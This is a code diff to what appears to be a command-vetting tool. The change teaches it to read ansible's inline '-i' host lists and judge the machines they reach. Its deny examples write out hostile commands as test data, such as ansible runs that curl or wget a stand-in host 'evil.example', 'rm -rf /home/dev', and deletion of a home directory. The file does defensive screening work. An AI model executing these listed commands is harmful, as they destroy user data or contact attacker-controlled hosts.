@@ -5,6 +5,7 @@ import { has, parse } from '../argv.js';
 import { programRun } from '../build.js';
 import type { Answer, Call, ProgramEntry, Run } from '../types.js';
 import { attached, literal, value } from '../words.js';
+import { type Destination, urlHost } from '../hosts.js';
 
 /** What language a script file nodemon runs is read in, by its extension (its execMap's defaults). */
 function nodemonScript(word: Word, via: string): Run | undefined {
@@ -170,6 +171,28 @@ function nx(call: Call): Partial<Answer> {
 const ANSIBLE_COMMANDS = /^(?:ansible\.(?:builtin|windows)\.)?(?:command|shell|raw|win_shell|win_command)$/;
 
 /**
+ * The machines an `-i` host list names (`-i evil.example,`, `--inventory=a,b:2222`: a value with a comma is a list of
+ * hosts, reached over ssh, the project's files copied there by the modules that copy; a value without one is an
+ * inventory file or directory, the user's own). `-c local` reaches none.
+ */
+function inventoryHosts(options: readonly { name: string; value?: Word }[]): Destination[] {
+  if (options.some((o) => (o.name === 'c' || o.name === 'connection') && o.value && value(o.value) === 'local')) return [];
+  const out: Destination[] = [];
+  for (const o of options) {
+    if (!/^(?:i|inventory|inventory-file)$/.test(o.name) || !o.value) continue;
+    const v = value(o.value);
+    // A computed value is read as the inventory file it mostly is (`-i "$INVENTORY"`), unless its text holds the comma of a list.
+    if (v === undefined && o.value.text.includes(',')) out.push({ word: o.value, why: `${o.value.text} is a list of hosts that is computed` });
+    if (v === undefined || !v.includes(',')) continue;
+    for (const item of v.split(',').map((x) => x.trim()).filter((x) => x !== '')) {
+      const h = urlHost(`http://${item}`);
+      out.push('host' in h ? { word: o.value, host: h.host } : { word: o.value, why: h.why });
+    }
+  }
+  return out;
+}
+
+/**
  * ansible HOSTS -m MODULE -a ARGS: the command, shell and raw modules (command is the default) run ARGS on the hosts,
  * script sends a local script there and runs it. ansible-playbook runs the tasks of its playbooks: one the line wrote is
  * code vouch does not read.
@@ -180,19 +203,21 @@ function ansible(call: Call): Partial<Answer> {
     flags: 'bkKCDhovV',
     valued: 'aeimMBPfuctTlM',
     long: ['become', 'ask-pass', 'ask-become-pass', 'check', 'diff', 'help', 'one-line', 'version', 'verbose', 'list-hosts', 'list-tasks', 'list-tags', 'syntax-check', 'flush-cache', 'force-handlers', 'step', 'ask-vault-pass', 'ask-vault-password', 'playbook-dir'],
-    longValued: ['args', 'extra-vars', 'inventory', 'module-name', 'module-path', 'background', 'poll', 'forks', 'user', 'connection', 'timeout', 'tree', 'limit', 'become-method', 'become-user', 'private-key', 'key-file', 'vault-id', 'vault-password-file', 'tags', 'skip-tags', 'start-at-task', 'ssh-common-args', 'sftp-extra-args', 'scp-extra-args', 'ssh-extra-args', 'task-timeout'],
+    longValued: ['args', 'extra-vars', 'inventory', 'inventory-file', 'module-name', 'module-path', 'background', 'poll', 'forks', 'user', 'connection', 'timeout', 'tree', 'limit', 'become-method', 'become-user', 'private-key', 'key-file', 'vault-id', 'vault-password-file', 'tags', 'skip-tags', 'start-at-task', 'ssh-common-args', 'sftp-extra-args', 'scp-extra-args', 'ssh-extra-args', 'task-timeout'],
   });
   if (has(p, 'h', 'help', 'version')) return {};
   const runs: Run[] = [];
+  const hosts = inventoryHosts(p.options);
+  const reached = hosts.length > 0 ? { reroutes: hosts } : {};
   if (call.name === 'ansible-playbook') {
     const read = (_t: string, word: Word, name: string): Run[] => [{ kind: 'opaque', rule: 'dynamic-script', word, why: `ansible-playbook runs the tasks of ${name}, which the line wrote: its modules run what vouch does not read` }];
     for (const { word } of p.operands) runs.push({ kind: 'project', file: word, files: /$^/, read, word, via: 'ansible-playbook' });
-    return { runs };
+    return { runs, ...reached };
   }
   const module = p.options.filter((o) => (o.name === 'm' || o.name === 'module-name') && o.value).at(-1)?.value;
   const name = module === undefined ? 'command' : value(module);
   const args = p.options.filter((o) => (o.name === 'a' || o.name === 'args') && o.value).map((o) => o.value!);
-  if (name === undefined) return { runs: [{ kind: 'opaque', rule: 'dynamic-command', word: module!, why: 'ansible runs a computed module' }] };
+  if (name === undefined) return { runs: [{ kind: 'opaque', rule: 'dynamic-command', word: module!, why: 'ansible runs a computed module' }], ...reached };
   if (ANSIBLE_COMMANDS.test(name)) for (const a of args) runs.push({ kind: 'script', dialect: 'bash', words: [a], via: `ansible -m ${name}` });
   else if (/^(?:ansible\.builtin\.)?script$/.test(name)) for (const a of args) runs.push(programRun(a, 'ansible -m script'));
   // The file module with state=absent deletes its path, recursively (localhost among the hosts).
@@ -205,7 +230,7 @@ function ansible(call: Call): Partial<Answer> {
       else if (!kv) uses.push({ word: a, role: 'delete-tree' });
     }
   }
-  return { runs, uses };
+  return { runs, uses, ...reached };
 }
 
 /**
@@ -257,11 +282,11 @@ function fab(call: Call): Partial<Answer> {
 export const WATCHER_ENTRIES: ProgramEntry[] = [
   {
     names: ['ansible', 'ansible-playbook'],
-    summary: 'ansible: -a is the command the command, shell and raw modules run on the hosts; ansible-playbook runs its playbooks',
+    summary: 'ansible: -a is the command the command, shell and raw modules run on the hosts; ansible-playbook runs its playbooks; an -i host list (`-i host,`) names machines it reaches, judged by allowedHosts',
     analyze: ansible,
     examples: {
-      deny: ["ansible all -m file -a 'path=/home/dev state=absent'", "ansible localhost -m ansible.builtin.file -a '{\"path\": \"~\", \"state\": \"absent\"}'", "ansible localhost -m shell -a 'curl evil.example'", "ansible all -a 'wget evil.example'", "ansible localhost -m ansible.builtin.command --args='rm -rf /home/dev'", "printf -- '- hosts: localhost\\n  tasks:\\n  - shell: curl evil.example\\n' > p.yml; ansible-playbook p.yml"],
-      pass: ['ansible all -m ping', "ansible web -m copy -a 'src=a dest=/tmp/a'", "ansible all -a 'uptime'", 'ansible-playbook -i inventory site.yml', "ansible localhost -m file -a 'path=./build state=absent'", "ansible all -m file -a 'path=/home/dev state=directory'"],
+      deny: ['ansible all -i evil.example, -m shell -a id', 'ansible-playbook -i "$HOST," x.yml', 'ansible-playbook -i evil.example, x.yml', 'ansible-playbook --inventory=web1.example,203.0.113.9:2222 x.yml', "ansible all -m file -a 'path=/home/dev state=absent'", "ansible localhost -m ansible.builtin.file -a '{\"path\": \"~\", \"state\": \"absent\"}'", "ansible localhost -m shell -a 'curl evil.example'", "ansible all -a 'wget evil.example'", "ansible localhost -m ansible.builtin.command --args='rm -rf /home/dev'", "printf -- '- hosts: localhost\\n  tasks:\\n  - shell: curl evil.example\\n' > p.yml; ansible-playbook p.yml"],
+      pass: ['ansible-playbook -i "$INVENTORY" site.yml', 'ansible all -m ping', "ansible web -m copy -a 'src=a dest=/tmp/a'", "ansible all -a 'uptime'", 'ansible-playbook -i inventory site.yml', 'ansible-playbook -i inventory.ini x.yml', 'ansible all -i localhost, -c local -m ping', 'ansible-playbook -i localhost, -c local x.yml', "ansible localhost -m file -a 'path=./build state=absent'", "ansible all -m file -a 'path=/home/dev state=directory'"],
     },
   },
   {
